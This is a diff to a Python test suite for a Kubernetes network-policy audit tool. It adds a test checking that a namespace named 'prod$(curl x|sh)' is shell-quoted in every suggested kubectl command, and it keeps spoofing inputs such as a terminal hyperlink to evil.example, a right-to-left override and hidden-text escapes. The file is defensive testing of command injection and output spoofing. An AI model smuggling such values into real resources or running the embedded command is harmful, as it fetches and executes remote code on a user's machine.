@@ -13,6 +13,7 @@ import json
 import os
 import pty
 import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -34,7 +35,7 @@ OSC8 = "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\"  # a hyperlink to
 BIDI = "\u202eved"  # right-to-left override: displays reversed
 HIDE = "\x1b[8m"  # concealed text
 NEWLINE = "\nHIGH  fake-finding  namespace/none"
-QUOTE_NS = "prod$(curl x|sh)"  # the suggested commands quote it
+QUOTE_NS = "prod$(curl x|sh)"
 
 API = "api" + OSC8
 WEB = "web" + BIDI
@@ -295,6 +296,44 @@ def strings(doc: Any) -> list[str]:
     if isinstance(doc, list):
         return [s for v in doc for s in strings(v)]
     return []
+
+
+# --- suggested commands quote every name ------------------------------------------------------------------------------
+
+
+def test_every_suggested_command_quotes_the_namespace(env: dict[str, str], tmp_path: Path) -> None:
+    docs = manifests() + [
+        {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
+         "metadata": {"name": "deny-egress", "namespace": QUOTE_NS},
+         "spec": {"podSelector": {"matchLabels": {"app": "job"}}, "policyTypes": ["Egress"]}},
+    ]  # fmt: skip
+    path = tmp_path / "q.yaml"
+    path.write_text(yaml.safe_dump_all(docs, sort_keys=False))
+    quoted = shlex.quote(QUOTE_NS)
+    assert quoted == "'prod$(curl x|sh)'"
+    p = run(env, "audit", "-o", "json", "--manifests", str(path))
+    hints = {
+        f["check"]: f["hint"]
+        for f in json.loads(p.stdout)["findings"]
+        if f["object"].startswith(("namespace/" + QUOTE_NS, QUOTE_NS))
+    }
+    assert set(hints) == {"no-default-deny-ingress", "no-default-deny-egress", "dns-egress-denied"}, hints
+    for hint in hints.values():
+        assert f"-n {quoted}" in hint and f"-n {QUOTE_NS}" not in hint, hint
+    (path.parent / "only-job.yaml").write_text(
+        yaml.safe_dump_all(
+            [d for d in manifests() if QUOTE_NS in (d["metadata"]["name"], d["metadata"].get("namespace"))], sort_keys=False
+        )
+    )
+    p = run(env, "audit", "--manifests", str(path.parent / "only-job.yaml"))
+    assert f"start with: kubectl netsso policy default-deny -n {quoted} --allow-dns" in p.stdout
+    # endpoint hints: the name exists in another namespace; no such name here
+    p = run(env, "can-reach", "job", "front/deploy/web", "--port", "80", "-n", "front", "--manifests", str(path))
+    assert f"use {shlex.quote(QUOTE_NS + '/job')} or -n {quoted}" in p.stderr, p.stderr
+    # every suggested command parses back to the exact namespace
+    for text in hints.values():
+        (arg,) = re.findall(r"kubectl netsso policy default-deny -n ('[^']*'|\S+)", text)
+        assert shlex.split(arg) == [QUOTE_NS]
 
 
 # --- the tool's own colours on a terminal -----------------------------------------------------------------------------
